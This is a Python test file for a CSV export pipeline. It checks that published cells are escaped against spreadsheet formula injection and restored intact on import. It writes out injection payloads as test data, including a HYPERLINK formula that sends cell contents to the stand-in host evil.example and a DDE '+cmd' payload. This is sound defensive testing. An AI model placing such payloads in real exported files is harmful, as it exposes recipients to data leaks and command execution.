"""Spreadsheet-safe CSV: no cell of a published CSV is read as a formula by a spreadsheet,
and our own standard-CSV importer gives the original values back."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import yaml
from hypothesis import given
from hypothesis import strategies as st

from se_pipeline.cli import main
from se_pipeline.csv_cells import original, safe_cell
from se_pipeline.sources.base import SourceContext
from se_pipeline.sources.registry import all_sources

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def evaluates(cell: str) -> bool:
    """Would a spreadsheet (Excel, LibreOffice, Google Sheets) read this cell as a
    formula? Leading whitespace is skipped, as some of them (and trimming imports) do;
    a plain number is a number."""
    if not cell or _NUMBER.fullmatch(cell):
        return False
    return cell[0] in "=+-@\t\r" or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "  \t=1+1",
           "-2+3", "\t=1", "\r=1", "=", "'=1+1", "''@x"]


def test_owasp_examples_are_neutralised_and_given_back() -> None:
    for value in HOSTILE:
        assert not evaluates(safe_cell(value)), value
        assert original(safe_cell(value)) == value
    assert safe_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'


def test_ordinary_values_and_numbers_are_left_alone() -> None:
    for value in ["Hazelbrook Co-op", "-0.1278", "+44", "51.5", "1e-5", "'s-Hertogenbosch", "", "a=b", "R-1"]:
        assert safe_cell(value) == value and original(value) == value
    assert safe_cell(12) == 12 and safe_cell(None) is None


@given(st.text())
def test_round_trip_and_no_formula_for_any_text(value: str) -> None:
    cell = safe_cell(value)
    assert original(cell) == value
    assert not evaluates(cell)


def hostile_standard_csv(path: Path) -> dict[str, str]:
    """The bundled standard CSV plus rows whose values are formulas; returns id -> name."""
    spec = all_sources()["standard_csv"]
    rows = list(csv.DictReader(io.StringIO(spec.sample.read_text(encoding="utf-8"), newline="")))
    template = rows[0]
    names = {}
    for i, name in enumerate(HOSTILE[:5]):
        row = dict(template, **{"Identifier": f"H00{i}", "Name": name, "Locality": HOSTILE[(i + 1) % 5],
                                "Region": "@SUM(A1:A9)", "Description": "  \t=1+1", "Phone": "+44 20 7946 0958",
                                "Website": '=HYPERLINK("http://evil.example")', "Postcode": "-2+3"})
        rows.append(row)
        names[f"H00{i}"] = name
    rows.append(dict(template, **{"Identifier": "=cmd|' /C calc'!A0", "Name": ""}))  # quarantined: no name
    rows.append(dict(template, **{"Identifier": "D001", "Name": "Dutch Co-op", "Locality": "'s-Hertogenbosch"}))
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(template), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return names


def test_published_csvs_hold_no_formula_and_our_importer_reads_the_originals(tmp_path: Path) -> None:
    names = hostile_standard_csv(tmp_path / "hostile.csv")
    config = {"sources": {name: {"enabled": False} for name in all_sources()}}
    config["sources"]["standard_csv"] = {"url": (tmp_path / "hostile.csv").as_uri()}
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", "--config", str(tmp_path / "config.yaml"), "--output", str(out)]) == 0
    release = (out / "latest").resolve()
    published = sorted(release.rglob("*.csv"))
    assert {p.name for p in published} >= {"quarantine.csv", "dropped-values.csv", "changelog.csv", "standard.csv"}
    cells: dict[str, list[str]] = {}
    for path in published:
        with path.open(encoding="utf-8", newline="") as f:
            cells[path.name] = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells[path.name] if evaluates(c)], path.name
    # the hostile values are there, neutralised (not dropped: the test is not vacuous)
    assert "'" + HOSTILE[0] in cells["standard.csv"] and "'=1+1" in cells["standard.csv"]
    assert "'=cmd|' /C calc'!A0" in cells["quarantine.csv"]
    # our importer gives the values back as they were published
    spec = all_sources()["standard_csv"]
    parsed = spec.parse((release / "standard.csv").read_bytes(), SourceContext("standard_csv", spec.mapping))
    frame = parsed.frame.set_index("record_id")  # our Identifier is <source>--<id> (docs/partners.md)
    assert {i: frame.loc[f"standard_csv--{i}", "name"] for i in names} == {i: n.strip() for i, n in names.items()}
    assert frame.loc["standard_csv--D001", "locality"] == "'s-Hertogenbosch"
    assert frame.loc["standard_csv--H000", "locality"] == HOSTILE[1]
    assert frame.loc["standard_csv--H000", "region"] == "@SUM(A1:A9)"
    assert frame.loc["standard_csv--H000", "description"] == "=1+1"  # trimmed by the normaliser, kept as text
